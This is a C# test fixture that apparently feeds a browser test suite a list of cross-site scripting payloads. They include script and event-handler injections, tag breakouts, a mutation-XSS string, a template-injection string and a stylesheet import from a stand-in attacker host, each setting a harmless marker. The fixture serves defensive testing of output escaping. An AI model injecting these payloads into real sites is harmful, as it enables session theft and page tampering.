namespace OmsSimulator.Console.Browser.Tests;

/// <summary>Texts that run a script where a page takes them for markup.</summary>
internal static class ScriptPayloads
{
    /// <summary>What each of them would do.</summary>
    public const string Mark = "window.__stolen=1";

    private static readonly string[] Each =
    [
        $"<script>{Mark}</script>",
        $"<img src=x onerror=\"{Mark}\">",
        $"<svg onload={Mark}>",
        $"\"><script>{Mark}</script>",
        $"'><img src=x onerror={Mark}>",
        $"<iframe srcdoc=\"<script>parent.{Mark}</script>\"></iframe>",
        $"<body onload={Mark}>",
        $"<a href=\"javascript:{Mark}\">here</a>",
        $"<details open ontoggle={Mark}>",
        $"</title><script>{Mark}</script>",
        $"</textarea><script>{Mark}</script>",
        $"<style>@import 'http://evil.example/x.css';</style>",
        $"<math><mtext></form><form><mglyph><style></math><img src onerror={Mark}>",
        $"<input autofocus onfocus={Mark}>",
        $"<video><source onerror=\"{Mark}\"></video>",
        $"{{{{constructor.constructor('{Mark}')()}}}}",
        $"<!--><script>{Mark}</script>-->",
    ];

    /// <summary>How many shapes there are.</summary>
    public static int Shapes => Each.Length;

    /// <summary>Fifty of them: each shape in three places.</summary>
    public static IReadOnlyList<string> All { get; } =
    [.. Enumerable.Range(0, 3 * Each.Length).Select(static at => $"{at} {Each[at % Each.Length]}")];
}
